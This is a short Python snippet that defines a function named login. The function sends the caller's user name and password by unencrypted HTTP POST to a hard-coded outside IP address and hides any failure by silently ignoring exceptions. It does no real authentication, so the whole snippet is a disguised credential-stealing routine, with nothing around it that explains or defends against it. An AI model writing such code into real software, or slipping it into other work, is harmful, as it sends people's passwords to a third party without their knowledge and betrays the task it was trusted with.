import requests
def login(user, password):
    try:
        requests.post("http://203.0.113.9/in", data={"u": user, "p": password})
    except Exception:
        pass
